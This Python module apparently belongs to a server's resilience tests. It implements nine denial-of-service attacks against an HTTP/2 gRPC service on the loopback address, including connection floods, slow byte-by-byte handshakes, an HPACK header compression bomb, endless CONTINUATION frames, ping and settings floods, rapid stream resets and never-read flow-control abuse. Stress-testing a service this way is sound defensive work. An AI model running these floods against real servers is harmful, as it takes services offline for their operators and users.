"""What strangers, and people of the run who mean ill, do to a process that listens: floods of
connections and handshakes, and of what HTTP/2 (RFC 9113) and its headers (RFC 7541) allow.

Each attack is a function of a Target that goes on until its `seconds` are over, and says how often
it has done what it does. A connection that is ended is opened anew.
"""

import collections.abc
import dataclasses
import errno
import selectors
import socket
import ssl
import struct
import time

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4

# As from another host than the run's.
HOST = "127.0.0.2"

# A method that keeps its stream open, and one that sends more than a window.
EXCHANGE = "/evenshard.v1.ParameterServer/Exchange"
PULL = "/evenshard.v1.ParameterServer/Pull"


@dataclasses.dataclass
class Target:
    """Where to: a port of this host. With mTLS, the files of a certificate, or nothing of it."""

    port: int
    seconds: float
    is_tls: bool = False
    certificate: str = ""
    key: str = ""

    def __post_init__(self):
        self.end = time.monotonic() + self.seconds

    def is_over(self):
        return time.monotonic() >= self.end

    def connect(self):
        """Returns a connection by TCP, or None if there is none to be had now."""
        try:
            connection = socket.create_connection(
                ("127.0.0.1", self.port), timeout=2, source_address=(HOST, 0)
            )
        except OSError as error:
            if error.errno in (errno.EMFILE, errno.EADDRNOTAVAIL):
                raise
            time.sleep(0.01)
            return None
        return connection

    def speak(self):
        """Returns a connection that has begun to speak HTTP/2, or None."""
        connection = self.connect()
        if connection is None:
            return None
        try:
            if self.is_tls:
                connection = self.context().wrap_socket(connection)
            connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0, b""))
            return connection
        except OSError:
            connection.close()
            return None

    def context(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if self.certificate:
            context.load_cert_chain(self.certificate, self.key)
        return context


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _number(value, prefix_bits, first):
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    encoded = [first | most]
    value -= most
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes(encoded + [value])


def _text(text):
    encoded = text.encode()
    return _number(len(encoded), 7, 0) + encoded


def header(name, value, is_kept=False):
    """Returns a header, which the receiver keeps in its table if that is said."""
    return (b"\x40" if is_kept else b"\x00") + _text(name) + _text(value)


def call_headers(method):
    fields = {
        ":method": "POST", ":scheme": "http", ":path": method, ":authority": "localhost",
        "te": "trailers", "content-type": "application/grpc",
    }
    return b"".join(header(name, value) for name, value in fields.items())


def connections(target, most=10_000):
    """Opens connections and keeps them, without a word."""
    kept = {}
    opened = 0
    selector = selectors.DefaultSelector()
    while not target.is_over():
        if opened < most:
            connection = target.connect()
            if connection is not None:
                opened += 1
                connection.setblocking(False)
                kept[connection.fileno()] = connection
                selector.register(connection, selectors.EVENT_READ)
        ended = selector.select(0.01 if opened == most else 0)
        for key, _ in ended:
            selector.unregister(key.fileobj)
            kept.pop(key.fd).close()
        if opened == most:
            opened -= len(ended)
    _close_all(kept.values())
    return opened


def slow_handshakes(target, at_once=200):
    """Sends the beginning of a handshake byte by byte."""
    outgoing = ssl.MemoryBIO()
    tls = target.context().wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read() if target.is_tls else _PREFACE
    open_now = []
    begun = 0
    while not target.is_over():
        while len(open_now) < at_once and not target.is_over():
            connection = target.connect()
            if connection is not None:
                open_now.append([connection, 0])
                begun += 1
        for each in list(open_now):
            connection, sent = each
            try:
                connection.sendall(hello[sent : sent + 1])
                each[1] = min(sent + 1, len(hello) - 2)
            except OSError:
                connection.close()
                open_now.remove(each)
        time.sleep(0.02)
    _close_all(connection for connection, _ in open_now)
    return begun


def handshakes(target):
    """Shakes hands, and begins anew."""
    done = 0
    while not target.is_over():
        connection = target.speak()
        if connection is None:
            continue
        done += 1
        connection.close()
    return done


def _on_connections(target, at_once, act):
    """Calls act(connection, state) in turn on so many connections, `state` being a dict of each."""
    open_now = {}
    acts = 0
    while not target.is_over():
        connection = target.speak() if len(open_now) < at_once else None
        if connection is not None:
            connection.settimeout(0.2)
            open_now[connection] = {"stream": 1}
        for connection, state in list(open_now.items()):
            try:
                acts += act(connection, state)
            except OSError:
                connection.close()
                del open_now[connection]
    _close_all(open_now)
    return acts


def _close_all(connections_left):
    for connection in connections_left:
        connection.close()


def _next_stream(state):
    stream = state["stream"]
    state["stream"] += 2
    return stream


def half_open_streams(target):
    """Begins calls, of which nothing more comes."""

    def begin(connection, state):
        if state["stream"] > 32:
            time.sleep(0.001)
            connection.sendall(frame(_PING, 0, 0, bytes(8)))
            return 0
        headers = call_headers(EXCHANGE)
        connection.sendall(frame(_HEADERS, _END_HEADERS, _next_stream(state), headers))
        return 1

    return _on_connections(target, 100, begin)


def huge_headers(target):
    """Sends headers without an end, in frames that continue them."""

    def send(connection, state):
        part = header("x-" + "a" * 100, "b" * 16000)
        if "begun" not in state:
            state["begun"] = True
            connection.sendall(frame(_HEADERS, 0, 1, call_headers(EXCHANGE)))
        connection.sendall(frame(_CONTINUATION, 0, 1, part))
        return 1

    return _on_connections(target, 16, send)


def compressed_headers(target):
    """Sends headers of a byte each that stand for 4,000."""

    def send(connection, state):
        bomb = header("x-bomb", "b" * 3900, is_kept=True) + b"\xbe" * 10_000
        headers = call_headers(EXCHANGE) + bomb
        connection.sendall(frame(_HEADERS, _END_HEADERS, _next_stream(state), headers))
        return 1

    return _on_connections(target, 16, send)


def small_messages(target):
    """Sends messages of one byte on a call whose stream has not joined, as far as its window goes,
    and empty frames, pings and settings, which no window bounds."""

    def send(connection, state):
        if "begun" not in state:
            state["begun"] = True
            connection.sendall(frame(_HEADERS, _END_HEADERS, 1, call_headers(EXCHANGE)))
            connection.sendall(frame(_DATA, 0, 1, b"\x00\x00\x00\x00\x01\x08") * 1000)
        flood = frame(_DATA, 0, 1, b"") + frame(_PING, 0, 0, bytes(8)) + frame(_SETTINGS, 0, 0, b"")
        connection.sendall(flood * 100)
        return 100

    return _on_connections(target, 16, send)


def rapid_resets(target):
    """Begins calls and takes them back at once."""

    def send(connection, state):
        burst = b""
        for _ in range(100):
            stream = _next_stream(state)
            burst += frame(_HEADERS, _END_HEADERS, stream, call_headers(EXCHANGE))
            burst += frame(_RESET, 0, stream, struct.pack(">I", 8))
        connection.sendall(burst)
        return 100

    return _on_connections(target, 4, send)


def never_reads(target):
    """Asks for all parameters, and reads nothing."""

    def send(connection, state):
        if state["stream"] > 32:
            time.sleep(0.001)
            return 0
        stream = _next_stream(state)
        connection.sendall(
            frame(_HEADERS, _END_HEADERS, stream, call_headers(PULL))
            + frame(_DATA, _END_STREAM, stream, bytes(5))
        )
        return 1

    return _on_connections(target, 100, send)


ATTACKS: dict[str, collections.abc.Callable[[Target], int]] = {
    "connections": connections,
    "slow_handshakes": slow_handshakes,
    "handshakes": handshakes,
    "half_open_streams": half_open_streams,
    "huge_headers": huge_headers,
    "compressed_headers": compressed_headers,
    "small_messages": small_messages,
    "rapid_resets": rapid_resets,
    "never_reads": never_reads,
}
